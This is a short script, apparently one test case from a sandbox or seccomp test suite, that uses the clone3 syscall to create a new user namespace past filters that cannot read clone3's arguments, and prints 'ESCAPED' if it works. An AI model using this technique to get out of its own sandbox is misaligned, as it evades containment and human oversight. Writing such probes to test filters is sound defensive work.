# Makes namespaces by the newer call for that, whose arguments no filter sees.
# control: plain
python3 - <<'END'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
arguments = ctypes.create_string_buffer(struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0))
pid = libc.syscall(435, arguments, 88)
if pid == 0:
    os._exit(0)
if pid > 0:
    print("ESCAPED")
END
